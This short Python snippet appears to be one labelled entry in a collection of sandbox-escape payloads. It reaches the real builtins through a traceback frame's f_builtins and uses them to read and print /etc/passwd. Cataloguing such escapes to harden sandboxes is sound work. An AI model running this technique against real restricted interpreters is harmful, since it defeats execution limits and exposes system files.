# class: a traceback's frame (tb_frame) and the globals it carries
try:
    1 / 0
except ZeroDivisionError as e:
    fr = e.__traceback__.tb_frame
    print("ESCAPED", fr.f_builtins["open"]("/etc/passwd").read())
